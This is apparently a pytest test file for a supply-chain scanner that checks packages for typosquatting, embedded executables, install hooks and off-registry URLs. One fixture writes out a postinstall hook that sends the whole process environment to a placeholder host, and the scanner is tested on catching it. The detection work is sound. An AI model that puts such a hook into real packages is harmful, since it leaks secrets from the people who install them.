from __future__ import annotations

import pytest

from impextech.vet.detectors import (
    _dl_distance_le1,
    _load_jsonc,
    _outside_registry,
    command_refs,
    executable_format,
    shannon_entropy,
    workspace_root,
)


@pytest.mark.parametrize(
    ("a", "b", "expected"),
    [
        ("express", "expresss", True),
        ("express", "exprss", True),
        ("lodash", "lodahs", True),
        ("axios", "axois", True),
        ("axios", "axiox", True),
        ("react", "react", False),
        ("react", "preact", True),
        ("lodash", "dashlo", False),
        ("chalk", "chulks", False),
    ],
)
def test_one_edit_distance(a: str, b: str, expected: bool) -> None:
    assert _dl_distance_le1(a, b) is expected
    assert _dl_distance_le1(b, a) is expected


@pytest.mark.parametrize(
    ("head", "kind"),
    [
        (b"\x7fELF\x02\x01\x01" + b"\0" * 60, "ELF"),
        (b"\xcf\xfa\xed\xfe" + b"\0" * 60, "Mach-O"),
        (b"\xca\xfe\xba\xbe\x00\x00\x00\x02" + b"\0" * 60, "Mach-O"),
        (b"\xca\xfe\xba\xbe\x00\x00\x00\x34" + b"\0" * 60, None),
        (b"MZ" + b"\0" * 58 + b"\x40\0\0\0PE\0\0", "PE"),
        (b"MZ just text that starts with MZ and is long enough to check......", None),
        (b"\x89PNG\r\n\x1a\n" + b"\0" * 60, None),
    ],
)
def test_executable_format(head: bytes, kind: str | None) -> None:
    assert executable_format(head) == kind


def test_command_refs() -> None:
    assert command_refs("node scripts/postinstall.js && bash ./tools/x.sh; npx husky") == [
        "scripts/postinstall.js",
        "./tools/x.sh",
    ]
    assert command_refs("node --no-warnings -r dotenv/config app.mjs") == ["app.mjs"]
    assert command_refs("husky install") == []


def test_workspace_root() -> None:
    assert workspace_root(".vscode/tasks.json", ".vscode") == ""
    assert workspace_root("apps/web/.vscode/tasks.json", ".vscode") == "apps/web"
    assert workspace_root(".devcontainer/py/devcontainer.json", ".devcontainer") == ""
    assert workspace_root(".devcontainer.json", ".devcontainer") == ""


def test_registry_urls() -> None:
    assert _outside_registry("git+ssh://git@example.invalid/x.git") is True
    assert _outside_registry("http://npm.example.invalid/x.tgz") is True
    assert _outside_registry("https://npm.example.invalid/x/-/x-1.0.0.tgz") is True
    assert _outside_registry("file:../local.tgz") is True


def test_entropy() -> None:
    assert shannon_entropy("") == 0.0
    assert shannon_entropy("aaaa") == 0.0
    assert shannon_entropy("abcd") == 2.0


def test_jsonc_comments_and_trailing_commas() -> None:
    text = (
        '{\n  // a comment\n  "a": "http://x.invalid/*not a comment*/", /* block */\n'
        '  "b": [1, 2,],\n}'
    )
    assert _load_jsonc(text) == {"a": "http://x.invalid/*not a comment*/", "b": [1, 2]}


def test_command_refs_take_any_extension_and_skip_urls() -> None:
    assert command_refs("node public/fonts/fa-solid-400.woff2") == [
        "public/fonts/fa-solid-400.woff2"
    ]
    assert command_refs("bash -c https://x.invalid/a.sh") == []


def test_inline_node_code_is_followed_not_flagged_by_itself() -> None:
    from impextech.vet.items import SourceFile
    from impextech.vet.scanner import scan_items

    pkg = b'{"scripts": {"postinstall": "node -e \\"try{require(\'./postinstall\')}catch(e){}\\""}}'
    hook = (
        b'const h = require("https");\nh.get("https://x.invalid/" + JSON.stringify(process.env));\n'
    )
    report = scan_items(
        [SourceFile("package.json", pkg, len(pkg)), SourceFile("postinstall.js", hook, len(hook))]
    )
    assert sorted((f.rule_id, f.path) for f in report.findings) == [
        ("VET101", "package.json"),
        ("VET511", "postinstall.js"),
    ]
